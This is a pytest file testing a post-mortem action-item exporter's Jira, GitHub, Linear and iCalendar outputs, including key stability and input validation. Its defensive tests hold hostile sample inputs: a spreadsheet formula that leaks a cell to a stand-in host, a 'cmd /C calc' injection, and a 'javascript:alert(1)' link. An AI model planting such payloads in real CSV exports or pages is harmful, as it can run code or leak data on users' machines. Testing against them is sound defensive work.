"""pmrepo actions --format jira-csv | github-issues | linear-csv | ics: each file checked
against what its importer documents, and the stable key that makes a re-export name the
same item the same way."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
from pathlib import Path

import pytest
from conftest import SAMPLE_REPO, git_env, run, run_cli

TODAY = ("--today", "2024-03-01")
SEED = "2024/Q1/INC-2024-0015-payment-api-latency-degradation.md"
# sample-repo's open P0 items: incident, number, file:line.
P0_ITEMS = (
    ("INC-2024-0015", "2", f"{SEED}:148"),
    (
        "INC-2024-0034",
        "1",
        "2024/Q3/INC-2024-0034-notification-service-campaign-backlog-repeat.md:139",
    ),
    ("INC-2024-0048", "1", "2024/Q4/INC-2024-0048-payment-api-webhook-retry-storm.md:129"),
)

# Jira's CSV importer (Atlassian, "Import data from a CSV file"): a header row with a
# Summary column; fields it maps by these names; a field of several values (Labels) given
# as several columns of one name. Its default priorities and its date format yyyy-MM-dd.
JIRA_FIELDS = {"Summary", "Issue Type", "Priority", "Assignee", "Due Date", "Labels", "Description"}
JIRA_PRIORITIES = {"Highest", "High", "Medium", "Low", "Lowest"}
# The flags of `gh issue create` (GitHub CLI manual), by the name a record field carries.
GH_CREATE_FLAGS = {
    "title": "--title",
    "body": "--body",
    "labels": "--label",
    "assignees": "--assignee",
    "milestone": "--milestone",
    "projects": "--project",
}
# Linear's CSV format (the columns of its CSV export, which its CSV import reads back) and
# its priorities.
LINEAR_COLUMNS = ["Title", "Description", "Priority", "Assignee", "Labels", "Due Date"]
LINEAR_PRIORITIES = {"Urgent", "High", "Medium", "Low", "No priority"}


def _export(fmt: str, *args: str) -> str:
    result = run_cli("actions", str(SAMPLE_REPO), "--format", fmt, *TODAY, *args)
    assert result.exit_code == 0, result.stderr
    return result.stdout_bytes.decode("utf-8")  # as written: Result.stdout turns CRLF into LF


def test_jira_csv_has_exactly_the_documented_headers_and_opens_with_csv() -> None:
    rows = list(csv.reader(io.StringIO(_export("jira-csv"))))
    header, items = rows[0], rows[1:]
    assert header == [
        "Summary",
        "Issue Type",
        "Priority",
        "Assignee",
        "Due Date",
        "Labels",
        "Labels",
        "Labels",
        "Description",
    ]
    assert set(header) <= JIRA_FIELDS
    assert len(items) == 21  # every open item of sample-repo, as `pmrepo actions` lists them
    assert all(len(row) == len(header) for row in items)
    assert items[0][:8] == [
        "Add latency check to canary analysis (>50% regression = block) (INC-2024-0015 #2)",
        "Task",
        "Highest",
        "platform-team",
        "2024-01-22",
        "pmrepo-INC-2024-0015-2",
        "postmortem",
        "INC-2024-0015",
    ]
    assert items[0][8].splitlines() == [
        "Add latency check to canary analysis (>50% regression = block)",
        "",
        f"Action item #2 of post-mortem INC-2024-0015: {SEED}, line 148",
        "Owner: platform-team; priority P0; due 2024-01-22; status OPEN",
        "pmrepo key: INC-2024-0015-2",
    ]
    for row in items:
        assert len(row[0]) <= 255 and row[2] in JIRA_PRIORITIES
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row[4])
        assert " " not in "".join(row[5:8])  # Jira labels take no spaces
    assert len({row[5] for row in items}) == len(items)


def test_github_issues_lines_carry_the_fields_gh_issue_create_takes() -> None:
    lines = _export("github-issues").splitlines()
    records = [json.loads(line) for line in lines]
    assert len(records) == 21
    for record in records:
        assert set(record) == {"title", "body", "labels", "assignees"}
        assert set(record) <= set(GH_CREATE_FLAGS)
        assert isinstance(record["title"], str) and isinstance(record["body"], str)
        assert all(isinstance(v, str) for v in record["labels"] + record["assignees"])
    assert records[0]["labels"] == ["pmrepo-INC-2024-0015-2", "postmortem", "P0"]
    # 'platform-team' names a team, which `gh issue create --assignee` refuses.
    assert records[0]["assignees"] == []
    argv = ["gh", "issue", "create", "--title", records[0]["title"], "--body", records[0]["body"]]
    argv += [arg for label in records[0]["labels"] for arg in ("--label", label)]
    assert argv[4] == "Add latency check to canary analysis (>50% regression = block) " + (
        "(INC-2024-0015 #2)"
    )


def test_an_owner_that_is_a_login_is_the_assignee(repo: Path) -> None:
    path = repo / SEED
    path.write_text(path.read_text("utf-8").replace("| platform-team |", "| @ravi-menon |", 1))
    result = run_cli("actions", str(repo), "--format", "github-issues", *TODAY)
    assert json.loads(result.stdout.splitlines()[0])["assignees"] == ["ravi-menon"]


@pytest.mark.parametrize(("fmt", "column"), [("jira-csv", 3), ("linear-csv", 3)])
def test_an_owner_handle_is_the_assignee_without_its_at(repo: Path, fmt: str, column: int) -> None:
    """'@dana-okoye' is the handle dana-okoye, as the GitHub export gives it: not a cell the
    CSV must quote against formulas ('@dana-okoye), which no tracker user is."""
    path = repo / SEED
    path.write_text(path.read_text("utf-8").replace("| platform-team |", "| @dana-okoye |", 1))
    rows = list(csv.reader(io.StringIO(_export_of(repo, fmt))))
    assert [row[column] for row in rows[1:] if "INC-2024-0015 #2" in row[0]] == ["dana-okoye"]


def _export_of(repo: Path, fmt: str) -> str:
    result = run_cli("actions", str(repo), "--format", fmt, *TODAY)
    assert result.exit_code == 0, result.stderr
    return result.stdout


def test_the_owner_filter_finds_an_owner_written_as_a_handle(repo: Path) -> None:
    path = repo / SEED
    path.write_text(path.read_text("utf-8").replace("| platform-team |", "| @dana-okoye |", 1))
    for asked in ("dana-okoye", "@dana-okoye", "Dana-Okoye"):
        result = run_cli("actions", str(repo), "--owner", asked, "--format", "json", *TODAY)
        items = json.loads(result.stdout)["items"]
        assert [(i["incident"], i["number"], i["owner"]) for i in items] == [
            ("INC-2024-0015", "2", "@dana-okoye")
        ], asked


def test_an_owner_that_is_no_login_is_no_assignee(repo: Path) -> None:
    path = repo / SEED
    path.write_text(path.read_text("utf-8").replace("| platform-team |", "| Platform Team |"))
    result = run_cli("actions", str(repo), "--format", "github-issues", *TODAY)
    first = json.loads(result.stdout.splitlines()[0])
    assert first["assignees"] == []
    assert "Owner: Platform Team;" in first["body"]


def test_linear_csv_has_linear_columns_and_priorities() -> None:
    rows = list(csv.reader(io.StringIO(_export("linear-csv"))))
    assert rows[0] == LINEAR_COLUMNS
    items = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert len(items) == 21
    assert {item["Priority"] for item in items} <= LINEAR_PRIORITIES
    assert items[0]["Priority"] == "Urgent"
    assert items[0]["Labels"] == "pmrepo-INC-2024-0015-2, postmortem"
    assert items[0]["Due Date"] == "2024-01-22"


def _unfolded(text: str) -> list[str]:
    return text.replace("\r\n ", "").split("\r\n")


def _committed(repo: Path, when: str) -> None:
    """Everything in repo committed at the time when (an ISO date), as the only commit or
    the next one."""
    env = git_env(repo.parent) | {"GIT_AUTHOR_DATE": when, "GIT_COMMITTER_DATE": when}
    if not (repo / ".git").exists():
        run(["git", "init", "-q"], repo, env)
    run(["git", "add", "-A"], repo, env)
    assert run(["git", "commit", "-q", "-m", "post-mortems"], repo, env).returncode == 0


def _ics(repo: Path, *args: str) -> str:
    result = run_cli("actions", str(repo), "--format", "ics", "--priority", "P0", *args)
    assert result.exit_code == 0, result.stderr
    return result.stdout_bytes.decode("utf-8")


def test_ics_is_an_rfc5545_calendar_of_due_dates(repo: Path) -> None:
    _committed(repo, "2024-02-20T10:30:00+00:00")
    text = _ics(repo, *TODAY)
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    assert all(len(line.encode("utf-8")) <= 75 for line in text.split("\r\n"))
    lines = _unfolded(text)
    assert lines[:4] == [
        "BEGIN:VCALENDAR",
        "VERSION:2.0",
        "PRODID:-//pmrepo//action items//EN",
        "CALSCALE:GREGORIAN",
    ]
    assert lines[-2:] == ["END:VCALENDAR", ""]
    events = text.count("BEGIN:VEVENT")
    assert events == text.count("END:VEVENT") == 3
    assert lines[4:15] == [
        "BEGIN:VEVENT",
        "UID:pmrepo-INC-2024-0015-2@pmrepo",
        "DTSTAMP:20240220T103000Z",
        "LAST-MODIFIED:20240220T103000Z",
        "SEQUENCE:1",
        "DTSTART;VALUE=DATE:20240122",
        "DTEND;VALUE=DATE:20240123",
        "SUMMARY:[P0] Add latency check to canary analysis (>50% regression = block)"
        " (INC-2024-0015 #2)",
        "DESCRIPTION:Add latency check to canary analysis (>50% regression = block)"
        f"\\n\\nAction item #2 of post-mortem INC-2024-0015: {SEED}\\, line 148\\nOwner:"
        " platform-team\\; priority P0\\; due 2024-01-22\\; status OPEN\\npmrepo key:"
        " INC-2024-0015-2",
        "END:VEVENT",
        "BEGIN:VEVENT",
    ]
    uids = [line for line in lines if line.startswith("UID:")]
    assert len(set(uids)) == len(uids) == 3


def test_a_changed_item_replaces_its_event_and_no_clock_is_read(repo: Path) -> None:
    """SEQUENCE and LAST-MODIFIED come from the post-mortem's revision in git: the same
    history gives the same file whatever the day; a changed due date a higher SEQUENCE."""
    _committed(repo, "2024-02-20T10:30:00+00:00")
    first = _ics(repo)
    assert first == _ics(repo, "--today", "2030-01-01") == _ics(repo, *TODAY)
    path = repo / SEED
    path.write_text(
        path.read_text("utf-8").replace("| P0 | 2024-01-22 | OPEN |", "| P0 | 2024-01-19 | OPEN |")
    )
    os.utime(path, (1708531200, 1708531200))  # written 2024-02-21T16:00:00Z
    edited = _unfolded(_ics(repo))
    event = edited[edited.index("UID:pmrepo-INC-2024-0015-2@pmrepo") :][:5]
    assert event == [
        "UID:pmrepo-INC-2024-0015-2@pmrepo",
        "DTSTAMP:20240221T160000Z",
        "LAST-MODIFIED:20240221T160000Z",
        "SEQUENCE:2",
        "DTSTART;VALUE=DATE:20240119",
    ]
    other = edited[edited.index("UID:pmrepo-INC-2024-0034-1@pmrepo") :][:4]
    assert other[3] == "SEQUENCE:1"  # its post-mortem did not change
    _committed(repo, "2024-02-22T09:00:00+00:00")
    committed = _unfolded(_ics(repo))
    event = committed[committed.index("UID:pmrepo-INC-2024-0015-2@pmrepo") :][:4]
    assert event[1:] == ["DTSTAMP:20240222T090000Z", "LAST-MODIFIED:20240222T090000Z", "SEQUENCE:2"]


def test_ics_says_how_many_items_have_no_date(repo: Path) -> None:
    path = repo / SEED
    path.write_text(
        path.read_text("utf-8").replace("| P0 | 2024-01-22 | OPEN |", "| P0 | TBD | OPEN |")
    )
    result = run_cli("actions", str(repo), "--format", "ics", "--priority", "P0", *TODAY)
    assert result.exit_code == 0
    assert result.stdout.count("BEGIN:VEVENT") == 2
    assert result.stderr == (
        "pmrepo: 1 item without a readable due date left out of the calendar\n"
    )


def test_a_re_export_names_every_item_the_same_way(repo: Path) -> None:
    before = run_cli("actions", str(repo), "--format", "jira-csv", "--all", *TODAY).stdout
    path = repo / SEED
    path.write_text(
        path.read_text("utf-8").replace("| P0 | 2024-01-22 | OPEN |", "| P0 | 2024-01-22 | DONE |")
    )
    after = run_cli("actions", str(repo), "--format", "jira-csv", "--all", *TODAY).stdout
    keys = [
        sorted(row[5] for row in list(csv.reader(io.StringIO(out)))[1:]) for out in (before, after)
    ]
    assert keys[0] == keys[1] and "pmrepo-INC-2024-0015-2" in keys[0]


def test_items_without_a_key_of_their_own_are_refused_every_one_named(repo: Path) -> None:
    """A missing, unreadable or taken number would make a key up: nothing is exported."""
    path = repo / SEED
    text = path.read_text("utf-8").replace("| 2 | Add latency check", "| 1 | Add latency check")
    text = text.replace("| 3 | Build perf test", "| | Build perf test")
    text = text.replace("| 5 | Add connection pool", "| 5b | Add connection pool")
    path.write_text(text)
    for fmt in ("jira-csv", "github-issues", "linear-csv", "ics"):
        result = run_cli("actions", str(repo), "--format", fmt, *TODAY)
        assert (result.exit_code, result.stdout) == (2, ""), fmt
        assert result.stderr == (
            "pmrepo: error: 3 action items would have no key of their own in a tracker, so "
            "nothing is exported:\n"
            f"  {SEED}:148: INC-2024-0015: action item number 1 is taken by the item on line "
            "147 (PM607)\n"
            f"  {SEED}:151: INC-2024-0015: action item number '5b' is not a whole number from "
            "1 (PM607)\n"
            f"  {SEED}:149: INC-2024-0015: action item has no number in its # cell (PM607)\n"
        ), fmt


def test_the_link_back_points_at_the_item_line() -> None:
    out = _export("jira-csv", "--link-base", "https://git.example.com/pm/blob/main/")
    description = list(csv.reader(io.StringIO(out)))[1][8]
    assert (
        "Action item #2 of post-mortem INC-2024-0015: https://git.example.com/pm/blob/main/"
        f"{SEED}#L148" in description
    )


@pytest.mark.parametrize("teams", ["--repo", "--org"])
def test_a_link_base_with_several_teams_is_refused(tmp_path: Path, teams: str) -> None:
    """Each team's files have their own address (org.yaml's url): one --link-base cannot
    be all of them, and was dropped without a word."""
    shutil.copytree(SAMPLE_REPO, tmp_path / "payments", ignore=shutil.ignore_patterns(".pmrepo_*"))
    (tmp_path / "org.yaml").write_text("teams:\n  - name: payments\n    repo: payments\n")
    where = str(tmp_path / ("payments" if teams == "--repo" else "org.yaml"))
    result = run_cli(
        *("actions", teams, where, "--format", "jira-csv", *TODAY),
        *("--link-base", "https://git.example.com/pm/blob/main"),
    )
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == (
        "pmrepo: error: --link-base is the address of one repository's files: with --repo or "
        "--org, give each team's as its url in an org.yaml (see README: many repositories)\n"
    )


def test_two_teams_with_the_same_incident_ids_share_one_tracker(tmp_path: Path) -> None:
    """An org-wide export's keys carry the team; a one-repository export's do not."""
    for team in ("payments", "platform"):
        shutil.copytree(SAMPLE_REPO, tmp_path / team, ignore=shutil.ignore_patterns(".pmrepo_*"))
    teams = ("--repo", str(tmp_path / "payments"), "--repo", str(tmp_path / "platform"))
    result = run_cli("actions", *teams, "--format", "github-issues", *TODAY)
    assert (result.exit_code, result.stderr) == (0, "")
    records = [json.loads(line) for line in result.stdout.splitlines()]
    labels = [record["labels"][0] for record in records]
    assert len(records) == 42 and len(set(labels)) == 42
    assert "pmrepo-payments/INC-2024-0015-2" in labels
    assert "pmrepo-platform/INC-2024-0015-2" in labels
    assert (
        "pmrepo key: platform/INC-2024-0015-2"
        in records[labels.index("pmrepo-platform/INC-2024-0015-2")]["body"]
    )


def test_every_key_collision_is_named_with_its_team_and_path(tmp_path: Path) -> None:
    """Two teams whose names differ only by a space make the same key: each one is listed."""
    for team in ("pay ments", "pay-ments"):
        shutil.copytree(SAMPLE_REPO, tmp_path / team, ignore=shutil.ignore_patterns(".pmrepo_*"))
    teams = ("--repo", str(tmp_path / "pay ments"), "--repo", str(tmp_path / "pay-ments"))
    result = run_cli("actions", *teams, "--format", "jira-csv", "--priority", "P0", *TODAY)
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == (
        "pmrepo: error: 6 action items would have no key of their own in a tracker, so "
        "nothing is exported:\n"
        + "".join(
            f"  the key pmrepo-pay-ments/{incident}-{number} is the key of: "
            f"pay ments/{incident} #{number} (team pay ments, {path}); "
            f"pay-ments/{incident} #{number} (team pay-ments, {path})\n"
            for incident, number, path in P0_ITEMS
        )
    )


def test_a_row_no_list_can_hold_is_said_not_dropped(repo: Path) -> None:
    path = repo / SEED
    text = path.read_text("utf-8")
    anchor = "| 2 | Add latency check to canary"
    row = "| 8 | Run cmd|calc against staging | @sre-team | P2 | 2025-01-15 | OPEN |\n"
    path.write_text(text.replace(anchor, row + anchor, 1), "utf-8")
    line = text[: text.index(anchor)].count("\n") + 1
    for args in (("actions", "--all"), ("actions", "--format", "jira-csv")):
        result = run_cli(*args, str(repo), *TODAY)
        assert result.exit_code == 0
        assert (
            f"pmrepo: warning: {SEED}:{line}: INC-2024-0015: an action-item row whose cells "
            "do not match the header is left out" in result.stderr
        )


def test_items_of_an_uncleared_security_incident_are_withheld_from_every_format(
    repo: Path,
) -> None:
    """No placeholder issue that a later export could never fill in: left out, and said."""
    path = repo / SEED
    path.write_text(path.read_text("utf-8").replace("security: false", "security: true"))
    said = (
        "pmrepo: 3 items of security incidents not cleared for publication withheld "
        "(export them once security_cleared is true)\n"
    )
    for fmt in ("jira-csv", "github-issues", "linear-csv", "ics"):
        result = run_cli("actions", str(repo), "--format", fmt, *TODAY)
        assert (result.exit_code, result.stderr) == (0, said), fmt
        assert "INC-2024-0015" not in result.stdout and "withheld" not in result.stdout, fmt
    listed = run_cli("actions", str(repo), "--format", "json", *TODAY)
    assert (
        sum(item["incident"] == "INC-2024-0015" for item in json.loads(listed.stdout)["items"]) == 3
    )


@pytest.mark.parametrize("fmt", ["jira-csv", "linear-csv"])
def test_no_csv_cell_starts_like_a_spreadsheet_formula(repo: Path, fmt: str) -> None:
    """OWASP CSV injection: a cell starting with = + - @ tab or CR gets a leading '."""
    path = repo / SEED
    text = path.read_text("utf-8").replace(
        "| 2 | Add latency check to canary analysis (>50% regression = block) | platform-team |",
        '| 2 | =HYPERLINK("http://x.example/?"&A1,"canary") | @=1+1 |',
    )
    text = text.replace("| 3 | Build perf test stage", "| 3 | -2+3+cmd /C calc perf stage")
    path.write_text(text.replace("| 5 | Add connection pool", "| 5 | \tAdd connection pool"))
    result = run_cli("actions", str(repo), "--format", fmt, *TODAY)
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8"))))
    cells = [value for row in rows[1:] for value in row]
    assert not [value for value in cells if value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("http://x.example/?"&A1,"canary") (INC-2024-0015 #2)' in cells
    assert "'=1+1" in cells  # the owner's handle, without its @, is neutralised too
    assert "'-2+3+cmd /C calc perf stage" in "\n".join(cells)


@pytest.mark.parametrize(
    "base", ["javascript:alert(1)", "git.example.com/pm", "https://", "https://x.example/a b"]
)
def test_a_link_base_that_is_no_web_address_is_refused(base: str) -> None:
    result = run_cli(
        "actions", str(SAMPLE_REPO), "--format", "jira-csv", "--link-base", base, *TODAY
    )
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr.endswith(
        f"Error: Invalid value for '--link-base': {base!r} is not an http(s) address like "
        "https://github.com/example/pm/blob/main\n"
    )


def test_a_team_name_with_a_comma_or_space_still_makes_one_label(tmp_path: Path) -> None:
    """Linear's Labels cell is comma-separated and Jira labels take no space."""
    shutil.copytree(SAMPLE_REPO, tmp_path / "pay", ignore=shutil.ignore_patterns(".pmrepo_*"))
    org = tmp_path / "org.yaml"
    org.write_text("teams:\n  - name: 'Payments, EU'\n    repo: pay\n", "utf-8")
    result = run_cli("actions", "--org", str(org), "--format", "linear-csv", *TODAY)
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[1][4] == "pmrepo-Payments-EU/INC-2024-0015-2, postmortem"
    assert "pmrepo key: Payments, EU/INC-2024-0015-2" in rows[1][1]
